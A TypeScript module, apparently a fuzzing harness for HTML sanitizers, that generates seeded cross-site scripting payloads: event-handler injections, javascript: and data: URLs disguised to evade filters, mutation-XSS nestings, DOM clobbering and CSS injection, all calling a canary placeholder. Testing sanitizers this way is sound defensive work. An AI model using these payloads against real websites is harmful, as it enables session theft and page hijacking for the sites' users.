export type Payload = { family: string; html: string }

/** A seeded generator of random numbers (mulberry32). */
function createRandom(seed: number) {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296
  }
}

const run = 'canary({n})'
const origin = '{origin}/{n}'

const elements = (
  'a abbr address area article aside audio b base bdi bdo blockquote body br button canvas caption cite ' +
  'code col colgroup data datalist dd del details dfn dialog dir div dl dt em embed fieldset figcaption ' +
  'figure font footer form frame frameset h1 h6 head header hgroup hr html i iframe image img input ins ' +
  'isindex kbd keygen label legend li link listing main map mark marquee menu menuitem meta meter nav ' +
  'nobr noembed noframes noscript object ol optgroup option output p param picture plaintext portal pre ' +
  'progress q rp rt ruby s samp script search section select slot small source span strike strong style ' +
  'sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var ' +
  'video wbr xmp x-widget o:p math annotation-xml animate set foreignObject use'
).split(' ')

const events = (
  'abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy ' +
  'beforecut beforeinput beforematch beforepaste beforetoggle begin blur bounce cancel canplay change ' +
  'click close contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend ' +
  'dragenter dragleave dragover dragstart drop durationchange end ended error finish focus focusin ' +
  'focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup ' +
  'load loadeddata loadedmetadata loadend loadstart lostpointercapture mousedown mouseenter mouseleave ' +
  'mousemove mouseout mouseover mouseup mousewheel pageshow paste pause play playing pointercancel ' +
  'pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup ' +
  'popstate progress ratechange repeat reset resize scroll scrollend search seeked seeking select ' +
  'selectionchange selectstart show slotchange start submit suspend timeupdate toggle touchstart ' +
  'transitionend transitionrun transitionstart unload volumechange wheel madeup'
).split(' ')

const separators = [' ', '/', '\t', '\n', '\f', '\r', ' / ', '//', '\0 ', '" ', "' "]

const quotes: ((value: string) => string)[] = [
  (value) => value,
  (value) => `"${value}"`,
  (value) => `'${value}'`,
  (value) => `\`${value}\``,
  (value) => `"${value.replace('(', '&#40;').replace(')', '&rpar;')}"`,
  (value) => `\n"${value}"`,
]

const urlAttributes = [
  (url: string) => `<a href=${url}>x</a>`,
  (url: string) => `<a xlink:href=${url}>x</a>`,
  (url: string) => `<svg><a xlink:href=${url} href=${url}><text y=20>x</text></a></svg>`,
  (url: string) => `<math href=${url}><mi xlink:href=${url}>x</mi></math>`,
  (url: string) => `<img src=${url}>`,
  (url: string) => `<img srcset=${url} sizes=1px lowsrc=${url} dynsrc=${url}>`,
  (url: string) => `<picture><source srcset=${url}><img></picture>`,
  (url: string) => `<iframe src=${url}></iframe>`,
  (url: string) => `<embed src=${url}>`,
  (url: string) => `<object data=${url}></object>`,
  (url: string) =>
    `<form action=${url}><button formaction=${url}>x</button><input type=submit></form>`,
  (url: string) => `<isindex action=${url} type=image>`,
  (url: string) => `<input type=image src=${url} formaction=${url}>`,
  (url: string) =>
    `<video src=${url} poster=${url} autoplay></video><audio src=${url} autoplay></audio>`,
  (url: string) => `<video><source src=${url}><track default src=${url}></video>`,
  (url: string) => `<table background=${url}><td background=${url}>x</table>`,
  (url: string) => `<a href=# ping=${url}>x</a>`,
  (url: string) => `<link rel=stylesheet href=${url}><link rel=preload as=script href=${url}>`,
  (url: string) => `<link rel=import href=${url}><link rel=prefetch href=${url}>`,
  (url: string) => `<base href=${url}><img src=a.png>`,
  (url: string) => `<meta http-equiv=refresh content=0;url=${url}>`,
  (url: string) => `<script src=${url}></script>`,
  (url: string) => `<svg><script href=${url} xlink:href=${url}></script></svg>`,
  (url: string) => `<svg><use href=${url}></use><image href=${url} /></svg>`,
  (url: string) =>
    `<svg><a><animate attributeName=href values=${url} /><text y=20>x</text></a></svg>`,
  (url: string) => `<svg><set attributeName=href to=${url} /></svg>`,
  (url: string) => `<blockquote cite=${url}>x</blockquote><q cite=${url}>x</q>`,
  (url: string) => `<body background=${url}><frameset><frame src=${url}></frameset>`,
  (url: string) => `<div style=background:url(${url})>x</div>`,
  (url: string) => `<map name=m><area href=${url} shape=default></map><img usemap=#m>`,
]

const decimal = (text: string, tail = ';') =>
  [...text].map((letter) => `&#${letter.charCodeAt(0)}${tail}`).join('')
const hex = (text: string) =>
  [...text].map((letter) => `&#x000${letter.charCodeAt(0).toString(16)};`).join('')

/** Disguises for an executable scheme, to evade filters. */
const disguises: ((scheme: string, rest: string) => string)[] = [
  (scheme, rest) => `"${scheme}:${rest}"`,
  (scheme, rest) => `"${scheme.toUpperCase()}:${rest}"`,
  (scheme, rest) =>
    `"${[...scheme].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter)).join('')}:${rest}"`,
  (scheme, rest) => `" &#1;&#14; ${scheme}:${rest}"`,
  (scheme, rest) => `"\u0001${scheme}:${rest}"`,
  (scheme, rest) => `"${scheme.slice(0, 3)}\t${scheme.slice(3)}:${rest}"`,
  (scheme, rest) => `"${scheme.slice(0, 3)}\n${scheme.slice(3)}:${rest}"`,
  (scheme, rest) => `"${scheme.slice(0, 3)}&Tab;${scheme.slice(3)}&colon;${rest}"`,
  (scheme, rest) => `"${scheme.slice(0, 2)}&NewLine;${scheme.slice(2)}&#58;${rest}"`,
  (scheme, rest) => `"${decimal(scheme)}:${rest}"`,
  (scheme, rest) => `"${decimal(scheme, '')}:${rest}"`,
  (scheme, rest) => `"${hex(scheme)}&#x3a;${rest}"`,
  (scheme, rest) => `'${scheme}:${rest}'`,
  (scheme, rest) => `${scheme}:${rest}`,
  (scheme, rest) => `"view-source:${scheme}:${rest}"`,
  (scheme, rest) => `"feed:${scheme}:${rest}"`,
]

const schemes: [string, string][] = [
  ['javascript', run],
  ['javascript', `//%0a${run}`],
  ['vbscript', run],
  ['data', `text/html,<script>parent.${run}</script>`],
  ['data', `image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`],
  ['data', `text/javascript,${run}`],
  ['blob', `${origin}`],
]

const containers = (
  'style title textarea noscript template math mtext mglyph svg foreignObject select table comment ' +
  'xmp iframe noembed noframes plaintext desc annotation-xml malignmark form p a b option td caption h1'
).split(' ')

const fires = [
  `<img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<script>${run}</script>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`,
  `<video poster="${origin}" onloadstart=${run} src="${origin}" autoplay></video>`,
  `<style>@import "${origin}";</style>`,
  `<a href="javascript:${run}">x</a>`,
]

const clobbered = (
  'getElementById body head documentElement forms cookie location defaultView createElement ' +
  'querySelector addEventListener siteBoot siteShared canary __FEDERATION__ rspackChunkblog React top self name ' +
  'nodeName attributes childNodes parentNode innerHTML firstChild ownerDocument page-state site main'
).split(' ')

const clobbers: ((name: string) => string)[] = [
  (name) => `<a id="${name}"></a><a id="${name}" name="href" href="${origin}">x</a>`,
  (name) => `<img name="${name}"><img id="${name}" src=x onerror=${run}>`,
  (name) =>
    `<form id="${name}"><input name="${name}" value=x><output name="attributes">x</output></form>`,
  (name) =>
    `<iframe name="${name}" src="${origin}"></iframe><object id="${name}" data="${origin}"></object>`,
  (name) => `<div id="${name}" class="${name}" data-region="${name}" data-main="${origin}">x</div>`,
]

const styles = [
  `@import "${origin}"`,
  `@import url(${origin})`,
  `x{background:url("${origin}")}`,
  `*{width:expression(${run})}`,
  `*{behavior:url(${origin})}*{-moz-binding:url(${origin})}`,
  `@font-face{font-family:x;src:url(${origin})}*{font-family:x}`,
  `*{list-style:url(${origin});cursor:url(${origin}),auto}`,
  `*{animation:x 1s}@keyframes x{from{color:red}}`,
  `body{display:none}`,
  `*{background:\\75rl(${origin})}`,
]

const placesOfStyle: ((css: string) => string)[] = [
  (css) => `<style>${css}</style>`,
  (css) => `<svg><style>${css}</style></svg>`,
  (css) => `<p style='${css.replace(/^[^{]*\{|\}$/g, '')}' onanimationstart=${run}>x</p>`,
  (css) => `<link rel=stylesheet href="data:text/css,${css}">`,
  (css) => `<math><mtext><style>${css}<img src=x onerror=${run}></style></mtext></math>`,
]

/** Closes elements that the payload before may have left open, so that payloads are independent. */
export const closers =
  '"\'>]]>--></video></audio></canvas></button></dialog></applet></listing></title></textarea>' +
  '</style></script></noscript></xmp></iframe></noembed></noframes></template></svg></math>' +
  '</select></table></object></b></i></a></p></div></form>'

/** Payloads of every family, each another, with placeholders: `{n}` for the number of each, and `{origin}`. */
export function createPayloads(seed: number, count: number): Payload[] {
  const random = createRandom(seed)
  const pick = <Item>(items: Item[]): Item => {
    const item = items[Math.floor(random() * items.length)]
    if (item === undefined) throw new Error('There is nothing to pick from.')
    return item
  }
  const some = <Item>(most: number, make: () => Item) =>
    Array.from({ length: 1 + Math.floor(random() * most) }, make)

  const families: Record<string, (position: number) => string> = {
    // In turn, so that every element and every event occurs.
    event(position) {
      const element = elements[position % elements.length]
      const event = events[position % events.length]
      const handler = `on${random() < 0.2 ? event?.toUpperCase() : event}=${pick(quotes)(run)}`
      const more = random() < 0.5 ? ' src=x autofocus tabindex=0 contenteditable' : ''
      return `<${element}${pick(separators)}${handler}${more}>x</${element}>`
    },
    address(position) {
      const attribute = urlAttributes[position % urlAttributes.length] ?? pick(urlAttributes)
      return attribute(pick(disguises)(...pick(schemes)))
    },
    outside: (position) =>
      (urlAttributes[position % urlAttributes.length] ?? pick(urlAttributes))(
        pick([`"${origin}"`, `'${origin.replace('http:', '')}'`, `"\\\\${origin}"`]),
        // Pictures of any origin are allowed, so they prove nothing.
      ).replace(/<img src=[^>]*>/g, '<img src=x>'),
    mutation() {
      const nest = some(5, () => pick(containers))
      const open = nest.map((name) => (name === 'comment' ? '<!--' : `<${name}>`)).join('')
      const close = nest.map((name) =>
        name === 'comment' ? pick(['-->', '--!>', '->']) : `</${name}>`,
      )
      const inner = pick([
        pick(fires),
        `<p title="${close.join('')}${pick(fires).replaceAll('"', '&quot;')}">`,
        `<!--${close.join('')}${pick(fires)}-->`,
        `<![CDATA[${pick(fires)}]]>`,
      ])
      return open + inner + (random() < 0.5 ? close.reverse() : close).join('')
    },
    clobbering: () => pick(clobbers)(pick(clobbered)),
    style: () => pick(placesOfStyle)(pick(styles)),
    splice() {
      const parts = some(6, () => {
        const whole = families[pick(['event', 'address', 'mutation', 'style'])]?.(
          Math.floor(random() * 1000),
        )
        const from = Math.floor(random() * 12)
        return random() < 0.5 ? (whole ?? '') : (whole ?? '').slice(from, from + 24)
      })
      return parts.join(pick(['', '>', '"', "'", '<', '/', '\0', '&', '</', '-->', ' ']))
    },
  }

  const names = Object.keys(families)
  const made = new Map<string, Payload>()
  for (let position = 0; made.size < count; position++) {
    const family = names[position % names.length] ?? 'event'
    const html = families[family]?.(Math.floor(position / names.length)) ?? ''
    if (!made.has(html)) made.set(html, { family, html })
  }
  return [...made.values()]
}
